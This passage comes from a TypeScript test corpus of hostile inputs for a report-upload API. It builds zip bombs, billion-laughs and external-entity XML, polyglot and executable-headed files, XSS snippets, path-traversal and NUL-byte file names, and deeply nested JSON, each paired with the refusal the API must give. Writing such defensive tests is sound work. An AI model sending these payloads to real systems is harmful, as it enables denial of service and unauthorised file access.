import { strToU8, zipSync } from 'fflate';
import iconv from 'iconv-lite';
import { writeAgencyXlsx } from '../../../src/modules/agencies/agency-table';
import {
  BILLION_LAUGHS_DTD,
  DOCX_PACKAGE_PARTS,
  EXTERNAL_ENTITY_DTD,
  buildPdf,
  docxOfText,
  docxWithDocumentXml,
  documentXml,
  onePagePdfObjects,
  sharedStringsXml,
  unzipToText,
  xlsxParts,
  zipParts,
} from './documents';
import { concat, crc32, deflatedEntry, rawZip, withDeclaredSize, zipWithBomb } from './zip-bytes';

/*
 * The hostile-input corpus: every case is built here, in memory, from code (no binaries in the
 * repository), and names the route an attacker would send it to and the refusal it must get.
 * apps/api/test/hostile-inputs.e2e-spec.ts sends them all to the running API.
 */

/** Where a case is sent; the spec knows each route's method, path and account. */
export type HostileRoute =
  /** POST /api/reports (uploader of the agency; multipart file + agencyId + year, or JSON). */
  | 'report-upload'
  /** POST /api/reports/preview (uploader). */
  | 'report-preview'
  /** POST /api/imports (uploader): a zip of reports, worked off in the background. */
  | 'bulk-import'
  /** POST /api/imports/previews (uploader). */
  | 'bulk-preview'
  /** POST /api/agencies/import (admin): CSV or XLSX. */
  | 'agency-import'
  /** PATCH /api/reports/:id/cells (uploader) on a draft of the agency. */
  | 'correction';

export type HostileRequest =
  /** A multipart upload: `bytes` as the `file` field (or `field`), plus form fields. */
  | {
      readonly kind: 'file';
      readonly bytes: Uint8Array;
      readonly fileName: string;
      readonly contentType?: string;
      readonly field?: string;
      /** Replaces the route's default form fields (agencyId, year for an upload). */
      readonly fields?: Readonly<Record<string, string>>;
    }
  /** A JSON body (serialised as it is). */
  | { readonly kind: 'json'; readonly body: unknown }
  /** Bytes with a content type of the case's choosing (broken JSON, multipart without boundary…). */
  | { readonly kind: 'raw'; readonly contentType: string; readonly body: string | Uint8Array };

export interface HostileExpectation {
  readonly status: number;
  readonly code: string;
  /** Matched against the message and the messages of `errors` (one line each). */
  readonly reason?: RegExp;
}

/** What the cases are built from: the agency under attack and a report of it. */
export interface HostileContext {
  readonly agencyId: string;
  readonly agencyCode: string;
  /** An agency the uploader does not report for. */
  readonly otherAgencyCode: string;
  readonly year: number;
  /** A whole report of `year` as text (the jiyuan report). */
  readonly reportText: string;
  /** A draft report of the agency, for corrections. */
  readonly reportId: string;
}

export type HostileClass =
  | 'zip bombs'
  | 'XML bombs and external entities'
  | 'malformed and truncated documents'
  | 'disguised and polyglot files'
  | 'empty, NUL and badly encoded text'
  | 'oversized bodies and deep JSON'
  | 'hostile names and paths'
  | 'wrong content types and broken bodies'
  | 'bulk import archives'
  | 'agency imports and CSV injection'
  | 'absurd corrections'
  | 'hostile form fields';

export interface HostileCase {
  /** Unique, kebab-case: names the case in the test output. */
  readonly id: string;
  readonly threat: HostileClass;
  readonly route: HostileRoute;
  build(context: HostileContext): HostileRequest | Promise<HostileRequest>;
  readonly expect: HostileExpectation;
}

const MB = 1024 * 1024;
const text = (value: string) => strToU8(value);
const file = (
  bytes: Uint8Array,
  fileName: string,
  extra: Partial<{ contentType: string; field: string; fields: Record<string, string> }> = {},
): HostileRequest => ({
  kind: 'file',
  bytes,
  fileName,
  ...extra,
});

// Refusals, as the API words them.
const PARSE = (code: string, reason?: RegExp): HostileExpectation => ({
  status: 422,
  code: `PARSE_${code}`,
  ...(reason ? { reason } : {}),
});
const TOO_LARGE_UNPACKED = PARSE('TOO_LARGE', /解压|上限/);
const CORRUPT = PARSE('CORRUPT_FILE', /损坏|无法/);
const UNSUPPORTED = PARSE('UNSUPPORTED_TYPE');
const NOT_A_REPORT = PARSE('NOT_A_REPORT');
const EMPTY = PARSE('EMPTY_FILE', /空/);
const BULK = (status: number, code: string, reason?: RegExp): HostileExpectation => ({
  status,
  code,
  ...(reason ? { reason } : {}),
});
const AGENCY_INVALID = (reason: RegExp): HostileExpectation => ({
  status: 422,
  code: 'AGENCY_IMPORT_INVALID',
  reason,
});
const VALIDATION = (reason: RegExp): HostileExpectation => ({
  status: 400,
  code: 'VALIDATION_FAILED',
  reason,
});
const CELL_INVALID = (reason: RegExp): HostileExpectation => ({
  status: 400,
  code: 'CELL_VALUE_INVALID',
  reason,
});

/** The manifest an uploader's zip carries for one file of its own agency. */
const manifestFor = (context: HostileContext, fileName: string, code = context.agencyCode) =>
  `file,agency_code,year\n${fileName},${code},${context.year}\n`;

/** An agency CSV with the given data rows under the Chinese header. */
const agencyCsv = (...rows: readonly string[]) =>
  text(['编码,名称,层级,类型,上级编码,起始年度,终止年度', ...rows].join('\r\n'));

async function agencyWorkbookParts(): Promise<Record<string, string>> {
  return unzipToText(
    await writeAgencyXlsx([
      {
        code: 'HOSTILE1',
        name: '恶意导入',
        level: 'city',
        kind: 'government',
        parentCode: null,
        activeFromYear: null,
        activeToYear: null,
      },
    ]),
  );
}

/** Bytes that begin as a PNG (signature and IHDR) and go on as noise. */
const PNG_HEAD = [
  0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52,
];
const JPEG_HEAD = [0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0];
const OLE_HEAD = [0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];

/** `length` bytes starting with `head`, then a fixed pseudo-random pattern (reproducible). */
function headed(head: readonly number[], length = 4096): Uint8Array {
  const bytes = new Uint8Array(length);
  let state = 0x2545f491;
  for (let i = 0; i < length; i++) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    bytes[i] = state & 0xff;
  }
  bytes.set(head);
  return bytes;
}

/** A minimal ELF header: what an executable renamed .txt starts with. */
const ELF_HEAD = [0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0];
const PE_HEAD = [0x4d, 0x5a, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0];

/** A 200-cell report as a DOCX (the `docx` library), for cases that damage a real document. */
let reportDocx: Promise<Uint8Array> | null = null;
const realReportDocx = (context: HostileContext) => (reportDocx ??= docxOfText(context.reportText));

const BIDI_NAME = '年报\u202Efdp.exe';

export const HOSTILE_CASES: readonly HostileCase[] = [
  // ── zip bombs ────────────────────────────────────────────────────────────────────────────
  {
    id: 'docx-bomb-150mb-honest-headers',
    threat: 'zip bombs',
    route: 'report-upload',
    build: () =>
      file(zipWithBomb(DOCX_PACKAGE_PARTS, 'word/document.xml', 150 * MB), '2023年报.docx'),
    expect: TOO_LARGE_UNPACKED,
  },
  {
    id: 'docx-bomb-lying-headers',
    threat: 'zip bombs',
    route: 'report-upload',
    // Declares 1,000 bytes and inflates to 120 MB: stopped within one step of inflating.
    build: () =>
      file(
        withDeclaredSize(
          zipWithBomb(DOCX_PACKAGE_PARTS, 'word/document.xml', 120 * MB),
          'word/document.xml',
          1000,
        ),
        '2023年报.docx',
      ),
    expect: CORRUPT,
  },
  {
    id: 'xlsx-bomb-sheet-150mb',
    threat: 'zip bombs',
    route: 'report-preview',
    build: () => {
      const { 'xl/worksheets/sheet1.xml': _sheet, ...parts } = xlsxParts(
        sharedStringsXml(['报告']),
      );
      return file(zipWithBomb(parts, 'xl/worksheets/sheet1.xml', 150 * MB), '2023年报.xlsx');
    },
    expect: TOO_LARGE_UNPACKED,
  },
  {
    id: 'xlsx-bomb-declared-4gb',
    threat: 'zip bombs',
    route: 'report-upload',
    build: () =>
      file(
        withDeclaredSize(
          zipParts(xlsxParts(sharedStringsXml(['报告']))),
          'xl/sharedStrings.xml',
          0xfffffff0,
        ),
        '2023年报.xlsx',
      ),
    expect: TOO_LARGE_UNPACKED,
  },
  {
    id: 'docx-5000-parts',
    threat: 'zip bombs',
    route: 'report-upload',
    // Parts the reader never asks for are listed, not inflated.
    build: () =>
      file(
        rawZip([
          ...Object.entries(DOCX_PACKAGE_PARTS).map(([name, content]) =>
            deflatedEntry(name, content),
          ),
          deflatedEntry('word/document.xml', documentXml(['会议通知：请于周五下午参加培训。'])),
          ...Array.from({ length: 5000 }, (_, i) =>
            deflatedEntry(`word/media/image${i}.png`, 'x'.repeat(64)),
          ),
        ]),
        '2023年报.docx',
      ),
    expect: NOT_A_REPORT,
  },
  {
    id: 'bulk-zip-bomb-300mb-real',
    threat: 'zip bombs',
    route: 'bulk-import',
    build: (context) =>
      file(
        zipWithBomb({ 'manifest.csv': manifestFor(context, 'r.txt') }, 'r.txt', 300 * MB),
        'reports.zip',
      ),
    expect: BULK(413, 'IMPORT_ARCHIVE_TOO_LARGE', /解压后超过/),
  },
  {
    id: 'bulk-zip-declares-4gb',
    threat: 'zip bombs',
    route: 'bulk-preview',
    build: () =>
      file(
        rawZip([deflatedEntry('r.txt', '2023年度报告', { declaredSize: 0xfffffff0 })]),
        'reports.zip',
      ),
    expect: BULK(413, 'IMPORT_ARCHIVE_TOO_LARGE'),
  },
  {
    id: 'bulk-zip-lies-small-inflates-large',
    threat: 'zip bombs',
    route: 'bulk-import',
    // Declares 10 KB, inflates to 50 MB: the real content never matches what the zip says.
    build: () =>
      file(
        withDeclaredSize(zipWithBomb({}, 'r.txt', 50 * MB, 0x41), 'r.txt', 10 * 1024),
        'reports.zip',
      ),
    expect: BULK(422, 'IMPORT_ZIP_CORRUPT', /损坏/),
  },
  {
    id: 'bulk-zip-5000-entries',
    threat: 'zip bombs',
    route: 'bulk-import',
    build: () =>
      file(
        rawZip(Array.from({ length: 5000 }, (_, i) => deflatedEntry(`r${i}.txt`, 'x'))),
        'reports.zip',
      ),
    expect: BULK(422, 'IMPORT_TOO_MANY_FILES', /最多导入 500 个文件/),
  },
  {
    id: 'agency-xlsx-bomb-lying-shared-strings',
    threat: 'zip bombs',
    route: 'agency-import',
    build: async () => {
      const { 'xl/sharedStrings.xml': _strings, ...parts } = await agencyWorkbookParts();
      const bomb = zipWithBomb(parts, 'xl/sharedStrings.xml', 80 * MB);
      return file(withDeclaredSize(bomb, 'xl/sharedStrings.xml', 100), 'agencies.xlsx');
    },
    expect: AGENCY_INVALID(/压缩炸弹|超过|损坏|无法读取/),
  },

  // ── XML bombs and external entities ─────────────────────────────────────────────────────
  {
    id: 'docx-billion-laughs',
    threat: 'XML bombs and external entities',
    route: 'report-upload',
    build: () =>
      file(
        docxWithDocumentXml(documentXml(['&lol9;', '&lol9;&lol9;'], BILLION_LAUGHS_DTD)),
        '2023年报.docx',
      ),
    expect: NOT_A_REPORT,
  },
  {
    id: 'docx-external-entity-file-and-network',
    threat: 'XML bombs and external entities',
    route: 'report-upload',
    build: () =>
      file(
        docxWithDocumentXml(documentXml(['&xxe;', '&net;'], EXTERNAL_ENTITY_DTD)),
        '2023年报.docx',
      ),
    expect: { ...NOT_A_REPORT, reason: /^(?![\s\S]*root:)/ },
  },
  {
    id: 'docx-elements-nested-200000-deep',
    threat: 'XML bombs and external entities',
    route: 'report-preview',
    build: () =>
      file(
        docxWithDocumentXml(
          `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${'<w:p>'.repeat(200_000)}${'</w:p>'.repeat(200_000)}</w:body></w:document>`,
        ),
        '2023年报.docx',
      ),
    expect: PARSE('CORRUPT_FILE', /嵌套超过 1000 层/),
  },
  {
    id: 'xlsx-billion-laughs-shared-strings',
    threat: 'XML bombs and external entities',
    route: 'report-upload',
    build: () =>
      file(zipParts(xlsxParts(sharedStringsXml(['&lol9;'], BILLION_LAUGHS_DTD))), '2023年报.xlsx'),
    expect: NOT_A_REPORT,
  },
  {
    id: 'xlsx-external-entity',
    threat: 'XML bombs and external entities',
    route: 'report-preview',
    build: () =>
      file(zipParts(xlsxParts(sharedStringsXml(['&xxe;'], EXTERNAL_ENTITY_DTD))), '2023年报.xlsx'),
    expect: NOT_A_REPORT,
  },
  {
    id: 'agency-xlsx-billion-laughs',
    threat: 'XML bombs and external entities',
    route: 'agency-import',
    build: async () => {
      const parts = await agencyWorkbookParts();
      parts['xl/sharedStrings.xml'] = sharedStringsXml(
        ['编码', '名称', '层级', '类型', '&lol9;'],
        BILLION_LAUGHS_DTD,
      );
      return file(zipParts(parts), 'agencies.xlsx');
    },
    expect: AGENCY_INVALID(/XLSX|无效|列/),
  },
  {
    id: 'agency-xlsx-external-entity',
    threat: 'XML bombs and external entities',
    route: 'agency-import',
    build: async () => {
      const parts = await agencyWorkbookParts();
      const sheet = Object.keys(parts).find((name) => name.startsWith('xl/worksheets/sheet')) ?? '';
      parts[sheet] = (parts[sheet] ?? '')
        .replace(
          '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>',
          `<?xml version="1.0" encoding="UTF-8"?>${EXTERNAL_ENTITY_DTD}`,
        )
        .replace(
          '<sheetData>',
          '<sheetData><row r="9"><c r="A9" t="inlineStr"><is><t>&xxe;</t></is></c></row>',
        );
      return file(zipParts(parts), 'agencies.xlsx');
    },
    expect: AGENCY_INVALID(/XLSX|无效|列|编码/),
  },

  // ── malformed and truncated documents ─────────────────────────────────────────────────────
  {
    id: 'pdf-header-only',
    threat: 'malformed and truncated documents',
    route: 'report-upload',
    build: () => file(text('%PDF-1.7\n'), '2023年报.pdf'),
    expect: CORRUPT,
  },
  {
    id: 'pdf-truncated-half',
    threat: 'malformed and truncated documents',
    route: 'report-upload',
    build: () => {
      const pdf = buildPdf(onePagePdfObjects('BT /F1 12 Tf 72 700 Td (2023 annual report) Tj ET'));
      return file(pdf.subarray(0, Math.floor(pdf.length / 2)), '2023年报.pdf');
    },
    expect: CORRUPT,
  },
  {
    id: 'pdf-garbage-after-header',
    threat: 'malformed and truncated documents',
    route: 'report-preview',
    build: () => file(concat([text('%PDF-1.4\n'), headed([0x25], 64 * 1024)]), '2023年报.pdf'),
    expect: CORRUPT,
  },
  {
    id: 'pdf-encrypted',
    threat: 'malformed and truncated documents',
    route: 'report-upload',
    build: () => {
      const hex = (seed: number) =>
        Array.from(headed([seed], 32), (b) => b.toString(16).padStart(2, '0')).join('');
      return file(
        buildPdf(
          [
            ...onePagePdfObjects('BT /F1 12 Tf 72 700 Td (2023 annual report) Tj ET'),
            `<< /Filter /Standard /V 1 /R 2 /O <${hex(1)}> /U <${hex(2)}> /P -4 >>`,
          ],
          `/Encrypt 6 0 R /ID [<${hex(3).slice(0, 32)}> <${hex(3).slice(0, 32)}>] `,
        ),
        '2023年报.pdf',
      );
    },
    expect: PARSE('ENCRYPTED_PDF', /加密/),
  },
  {
    id: 'pdf-no-text-layer',
    threat: 'malformed and truncated documents',
    route: 'report-upload',
    build: () => file(buildPdf(onePagePdfObjects('0 0 m 100 100 l S')), '2023年报.pdf'),
    expect: PARSE('NO_TEXT_LAYER', /文字/),
  },
  {
    id: 'pdf-claims-a-million-pages',
    threat: 'malformed and truncated documents',
    route: 'report-preview',
    build: () => file(buildPdf(onePagePdfObjects('0 0 m 100 100 l S', 1_000_000)), '2023年报.pdf'),
    expect: PARSE('NO_TEXT_LAYER'),
  },
  {
    id: 'docx-real-report-truncated',
    threat: 'malformed and truncated documents',
    route: 'report-upload',
    build: async (context) => {
      const docx = await realReportDocx(context);
      return file(docx.subarray(0, Math.floor(docx.length * 0.6)), '2023年报.docx');
    },
    expect: CORRUPT,
  },
  {
    id: 'docx-without-document-part',
    threat: 'malformed and truncated documents',
    route: 'report-upload',
    build: () => file(zipParts(DOCX_PACKAGE_PARTS), '2023年报.docx'),
    expect: UNSUPPORTED,
  },
  {
    id: 'docx-document-not-xml',
    threat: 'malformed and truncated documents',
    route: 'report-preview',
    build: () => file(docxWithDocumentXml('<w:document><w:body><w:p><w:t>未闭合'), '2023年报.docx'),
    expect: NOT_A_REPORT,
  },
  {
    id: 'docx-bad-checksum',
    threat: 'malformed and truncated documents',
    route: 'report-upload',
    build: async (context) => {
      const parts = unzipToText(await realReportDocx(context));
      const entries = Object.entries(parts).map(([name, content]) =>
        deflatedEntry(
          name,
          content,
          name === 'word/document.xml' ? { crc: (crc32(text(content)) ^ 1) >>> 0 } : {},
        ),
      );
      return file(rawZip(entries), '2023年报.docx');
    },
    expect: CORRUPT,
  },
  {
    id: 'xlsx-truncated',
    threat: 'malformed and truncated documents',
    route: 'report-upload',
    build: () => {
      const xlsx = zipParts(xlsxParts(sharedStringsXml(['南江市2023年政府信息公开工作年度报告'])));
      return file(xlsx.subarray(0, xlsx.length - 30), '2023年报.xlsx');
    },
    expect: CORRUPT,
  },
  {
    id: 'zip-encrypted-entry-as-docx',
    threat: 'malformed and truncated documents',
    route: 'report-upload',
    build: () =>
      file(
        rawZip([
          ...Object.entries(DOCX_PACKAGE_PARTS).map(([name, content]) =>
            deflatedEntry(name, content),
          ),
          deflatedEntry('word/document.xml', documentXml(['年度报告']), {
            flags: 0x0801,
            method: 99,
          }),
        ]),
        '2023年报.docx',
      ),
    expect: PARSE('UNSUPPORTED_TYPE', /加密/),
  },

  // ── disguised and polyglot files ──────────────────────────────────────────────────────────
  {
    id: 'png-named-pdf',
    threat: 'disguised and polyglot files',
    route: 'report-upload',
    build: () => file(headed(PNG_HEAD), '2023年报.pdf'),
    expect: PARSE('UNSUPPORTED_TYPE', /PNG 图片/),
  },
  {
    id: 'jpeg-named-docx',
    threat: 'disguised and polyglot files',
    route: 'report-upload',
    build: () => file(headed(JPEG_HEAD), '2023年报.docx'),
    expect: PARSE('UNSUPPORTED_TYPE', /JPEG 图片/),
  },
  {
    id: 'gif-with-html-named-html',
    threat: 'disguised and polyglot files',
    route: 'report-preview',
    build: () =>
      file(
        text('GIF89a<html><body><script>alert(1)</script>2023年度报告</body></html>'),
        '2023年报.html',
      ),
    expect: PARSE('UNSUPPORTED_TYPE', /GIF 图片/),
  },
  {
    id: 'old-word-doc-named-docx',
    threat: 'disguised and polyglot files',
    route: 'report-upload',
    build: () => file(headed(OLE_HEAD, 8192), '2023年报.docx'),
    expect: PARSE('UNSUPPORTED_TYPE', /\.doc/),
  },
  {
    id: 'old-excel-xls-named-xlsx',
    threat: 'disguised and polyglot files',
    route: 'report-preview',
    build: () => file(headed(OLE_HEAD, 8192), '2023年报.xlsx'),
    expect: PARSE('UNSUPPORTED_TYPE', /\.xls/),
  },
  {
    id: 'elf-executable-named-txt',
    threat: 'disguised and polyglot files',
    route: 'report-upload',
    build: () => file(headed(ELF_HEAD, 16 * 1024), '2023年报.txt'),
    expect: PARSE('UNSUPPORTED_TYPE', /无法识别/),
  },
  {
    id: 'windows-exe-named-pdf',
    threat: 'disguised and polyglot files',
    route: 'report-upload',
    build: () => file(headed(PE_HEAD, 16 * 1024), '2023年报.pdf'),
    expect: PARSE('UNSUPPORTED_TYPE', /无法识别/),
  },
  {
    id: 'plain-zip-named-docx',
    threat: 'disguised and polyglot files',
    route: 'report-upload',
    build: (context) => file(zipSync({ '报告.txt': text(context.reportText) }), '2023年报.docx'),
    expect: PARSE('UNSUPPORTED_TYPE', /不是 Word/),
  },
  {
    id: 'pdf-zip-polyglot',
    threat: 'disguised and polyglot files',
    route: 'report-upload',
    // A PDF header then a whole DOCX: readers that look at the end see a zip.
    build: async (context) =>
      file(
        concat([text('%PDF-1.4\n%\u00e2\u00e3\n'), await realReportDocx(context)]),
        '2023年报.pdf',
      ),
    expect: CORRUPT,
  },
  {
    id: 'jpeg-zip-polyglot-named-docx',
    threat: 'disguised and polyglot files',
    route: 'report-preview',
    build: async (context) =>
      file(concat([headed(JPEG_HEAD, 2048), await realReportDocx(context)]), '2023年报.docx'),
    expect: PARSE('UNSUPPORTED_TYPE', /JPEG/),
  },
  {
    id: 'html-script-no-report',
    threat: 'disguised and polyglot files',
    route: 'report-upload',
    build: () =>
      file(
        text(
          '<!doctype html><html><body><script>fetch("/api/auth/me")</script><img src=x onerror=alert(1)><table><tr><td>1</td></tr></table></body></html>',
        ),
        '2023年报.html',
      ),
    expect: NOT_A_REPORT,
  },

  // ── empty, NUL and badly encoded text ────────────────────────────────────────────────────
  {
    id: 'empty-file',
    threat: 'empty, NUL and badly encoded text',
    route: 'report-upload',
    build: () => file(new Uint8Array(0), '2023年报.txt'),
    expect: EMPTY,
  },
  {
    id: 'whitespace-only',
    threat: 'empty, NUL and badly encoded text',
    route: 'report-upload',
    build: () => file(text(' \t\r\n'.repeat(5000)), '2023年报.txt'),
    expect: EMPTY,
  },
  {
    id: 'ideographic-spaces-and-bom',
    threat: 'empty, NUL and badly encoded text',
    route: 'report-preview',
    build: () => file(text('\ufeff' + '\u3000\u00a0\n'.repeat(2000)), '2023年报.md'),
    expect: EMPTY,
  },
  {
    id: 'one-megabyte-of-nul',
    threat: 'empty, NUL and badly encoded text',
    route: 'report-upload',
    build: () => file(new Uint8Array(MB), '2023年报.txt'),
    expect: UNSUPPORTED,
  },
  {
    id: 'report-text-with-nul-between-characters',
    threat: 'empty, NUL and badly encoded text',
    route: 'report-upload',
    build: (context) => file(text(context.reportText.split('').join('\u0000')), '2023年报.txt'),
    expect: UNSUPPORTED,
  },
  {
    id: 'invalid-utf8-bytes',
    threat: 'empty, NUL and badly encoded text',
    route: 'report-upload',
    build: () => {
      const bytes = new Uint8Array(32 * 1024);
      for (let i = 0; i < bytes.length; i += 4) bytes.set([0xc3, 0x28, 0xed, 0xa0], i);
      return file(bytes, '2023年报.txt');
    },
    expect: NOT_A_REPORT,
  },
  {
    id: 'gb18030-text-not-a-report',
    threat: 'empty, NUL and badly encoded text',
    route: 'report-preview',
    build: () =>
      file(
        iconv.encode(
          '通知：明天下午三点在第一会议室开会，请准时参加。𠀀𪚥\n'.repeat(200),
          'gb18030',
        ),
        '通知.txt',
      ),
    expect: NOT_A_REPORT,
  },
  {
    id: 'utf8-surrogates-and-overlongs',
    threat: 'empty, NUL and badly encoded text',
    route: 'report-upload',
    build: () => {
      const pattern = [
        0xed, 0xa0, 0x80, 0xc0, 0xaf, 0xe0, 0x80, 0xaf, 0xf8, 0x88, 0x80, 0x80, 0x80, 0x0a,
      ];
      return file(
        Uint8Array.from({ length: 14 * 2000 }, (_, i) => pattern[i % pattern.length] ?? 0),
        '2023年报.txt',
      );
    },
    expect: NOT_A_REPORT,
  },
  {
    id: 'pasted-text-of-whitespace',
    threat: 'empty, NUL and badly encoded text',
    route: 'report-upload',
    build: (context) => ({
      kind: 'json',
      body: { agencyId: context.agencyId, year: context.year, text: ' \u3000\n\t ' },
    }),
    expect: { status: 400, code: 'REPORT_SOURCE_MISSING', reason: /粘贴/ },
  },

  // ── oversized bodies and deep JSON ───────────────────────────────────────────────────────
  {
    id: 'report-file-over-20mb',
    threat: 'oversized bodies and deep JSON',
    route: 'report-upload',
    build: (context) => file(text(context.reportText.padEnd(21 * MB, '公')), '2023年报.txt'),
    expect: { status: 413, code: 'PAYLOAD_TOO_LARGE', reason: /20 MB/ },
  },
  {
    id: 'preview-file-over-20mb',
    threat: 'oversized bodies and deep JSON',
    route: 'report-preview',
    build: () => file(new Uint8Array(21 * MB).fill(0x41), '2023年报.txt'),
    expect: { status: 413, code: 'PAYLOAD_TOO_LARGE', reason: /20 MB/ },
  },
  {
    id: 'pasted-text-over-json-limit',
    threat: 'oversized bodies and deep JSON',
    route: 'report-upload',
    build: (context) => ({
      kind: 'json',
      body: { agencyId: context.agencyId, year: context.year, text: '公'.repeat(2 * MB) },
    }),
    expect: { status: 413, code: 'PAYLOAD_TOO_LARGE' },
  },
  {
    id: 'agency-csv-over-5mb',
    threat: 'oversized bodies and deep JSON',
    route: 'agency-import',
    build: () => file(agencyCsv(`X0,${'名'.repeat(2 * MB)},县级,人民政府,,,`), 'agencies.csv'),
    expect: { status: 413, code: 'AGENCY_IMPORT_TOO_LARGE', reason: /5 MB/ },
  },
  {
    id: 'preview-json-20000-levels-deep',
    threat: 'oversized bodies and deep JSON',
    route: 'report-preview',
    build: () => ({
      kind: 'raw',
      contentType: 'application/json',
      body: `{"text":${'['.repeat(20_000)}${']'.repeat(20_000)}}`,
    }),
    expect: { status: 400, code: 'JSON_TOO_DEEP', reason: /嵌套/ },
  },
  {
    id: 'correction-json-deep-objects',
    threat: 'oversized bodies and deep JSON',
    route: 'correction',
    build: () => ({
      kind: 'raw',
      contentType: 'application/json',
      body: `{"reason":"x","changes":[${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}]}`,
    }),
    expect: { status: 400, code: 'JSON_TOO_DEEP', reason: /嵌套/ },
  },
  {
    id: 'correction-501-changes',
    threat: 'oversized bodies and deep JSON',
    route: 'correction',
    build: () => ({
      kind: 'json',
      body: {
        reason: '批量',
        changes: Array.from({ length: 501 }, () => ({
          address: 'applications.newReceived.total',
          value: 1,
        })),
      },
    }),
    expect: VALIDATION(/最多更正 500 个/),
  },

  // ── hostile names and paths ──────────────────────────────────────────────────────────────
  {
    id: 'bidi-override-name-on-image',
    threat: 'hostile names and paths',
    route: 'report-upload',
    build: () => file(headed(PNG_HEAD), BIDI_NAME),
    expect: PARSE('UNSUPPORTED_TYPE', /PNG/),
  },
  {
    id: 'traversal-name-on-empty-file',
    threat: 'hostile names and paths',
    route: 'report-upload',
    build: () => file(new Uint8Array(0), '../../../../etc/passwd'),
    expect: EMPTY,
  },
  {
    id: 'thousand-character-name',
    threat: 'hostile names and paths',
    route: 'report-preview',
    build: () => file(headed(OLE_HEAD), `${'年'.repeat(1000)}.doc`),
    expect: UNSUPPORTED,
  },
  {
    id: 'name-of-control-characters-only',
    threat: 'hostile names and paths',
    route: 'report-upload',
    // Raw control characters in the part header: the form itself is refused.
    build: () => file(new Uint8Array(0), '\u0007\u001b[31m\u202e\u200b'),
    expect: { status: 400, code: 'MALFORMED_MULTIPART', reason: /表单/ },
  },
  {
    id: 'multipart-file-name-of-200kb',
    threat: 'hostile names and paths',
    route: 'report-upload',
    build: (context) => file(text(context.reportText), `${'a'.repeat(200 * 1024)}.txt`),
    expect: { status: 400, code: 'MALFORMED_MULTIPART', reason: /表单/ },
  },
  {
    id: 'bulk-entry-climbing-out',
    threat: 'hostile names and paths',
    route: 'bulk-import',
    build: (context) =>
      file(zipSync({ '../../etc/cron.d/年报.txt': text(context.reportText) }), 'reports.zip'),
    expect: BULK(422, 'IMPORT_ZIP_UNSAFE_PATH', /\.\./),
  },
  {
    id: 'bulk-entry-backslash-traversal',
    threat: 'hostile names and paths',
    route: 'bulk-preview',
    build: (context) =>
      file(zipSync({ 'reports\\..\\..\\..\\evil.txt': text(context.reportText) }), 'reports.zip'),
    expect: BULK(422, 'IMPORT_ZIP_UNSAFE_PATH'),
  },
  {
    id: 'bulk-entry-absolute-path',
    threat: 'hostile names and paths',
    route: 'bulk-import',
    build: (context) =>
      file(zipSync({ '/var/lib/atlas/年报.txt': text(context.reportText) }), 'reports.zip'),
    expect: BULK(422, 'IMPORT_ZIP_UNSAFE_PATH'),
  },
  {
    id: 'bulk-entry-windows-drive',
    threat: 'hostile names and paths',
    route: 'bulk-import',
    build: (context) =>
      file(
        rawZip([deflatedEntry('C:\\Windows\\System32\\年报.txt', context.reportText)]),
        'reports.zip',
      ),
    expect: BULK(422, 'IMPORT_ZIP_UNSAFE_PATH'),
  },
  {
    id: 'bulk-entry-name-with-nul',
    threat: 'hostile names and paths',
    route: 'bulk-preview',
    build: (context) =>
      file(rawZip([deflatedEntry('年报.txt\u0000.exe', context.reportText)]), 'reports.zip'),
    expect: BULK(422, 'IMPORT_ZIP_UNSAFE_PATH'),
  },
  {
    id: 'bulk-entry-dot-dot-only',
    threat: 'hostile names and paths',
    route: 'bulk-import',
    build: (context) => file(rawZip([deflatedEntry('..', context.reportText)]), 'reports.zip'),
    expect: BULK(422, 'IMPORT_ZIP_UNSAFE_PATH'),
  },

  // ── wrong content types and broken bodies ────────────────────────────────────────────────
  {
    id: 'report-as-text-plain-body',
    threat: 'wrong content types and broken bodies',
    route: 'report-upload',
    build: (context) => ({ kind: 'raw', contentType: 'text/plain', body: context.reportText }),
    expect: { status: 400, code: 'VALIDATION_FAILED' },
  },
  {
    id: 'preview-as-xml-body',
    threat: 'wrong content types and broken bodies',
    route: 'report-preview',
    build: () => ({
      kind: 'raw',
      contentType: 'application/xml',
      body: `<?xml version="1.0"?>${EXTERNAL_ENTITY_DTD}<r>&xxe;</r>`,
    }),
    expect: { status: 400, code: 'REPORT_SOURCE_MISSING' },
  },
  {
    id: 'multipart-without-boundary',
    threat: 'wrong content types and broken bodies',
    route: 'report-upload',
    build: () => ({
      kind: 'raw',
      contentType: 'multipart/form-data',
      body: '--x\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\nabc\r\n--x--\r\n',
    }),
    expect: { status: 400, code: 'MALFORMED_MULTIPART' },
  },
  {
    id: 'multipart-cut-short',
    threat: 'wrong content types and broken bodies',
    route: 'report-preview',
    build: () => ({
      kind: 'raw',
      contentType: 'multipart/form-data; boundary=xyz',
      body: '--xyz\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\nContent-Type: text/plain\r\n\r\n2023年度报告',
    }),
    expect: { status: 400, code: 'MALFORMED_MULTIPART' },
  },
  {
    id: 'multipart-two-files',
    threat: 'wrong content types and broken bodies',
    route: 'report-upload',
    build: (context) => {
      const part = (name: string) =>
        `--xyz\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\n${context.reportText}\r\n`;
      return {
        kind: 'raw',
        contentType: 'multipart/form-data; boundary=xyz',
        body: `${part('a.txt')}${part('b.txt')}--xyz--\r\n`,
      };
    },
    expect: { status: 400, code: 'MALFORMED_MULTIPART' },
  },
  {
    id: 'multipart-file-under-another-field',
    threat: 'wrong content types and broken bodies',
    route: 'bulk-import',
    build: (context) =>
      file(zipSync({ 'r.txt': text(context.reportText) }), 'reports.zip', { field: 'archive' }),
    expect: { status: 400, code: 'MALFORMED_MULTIPART' },
  },
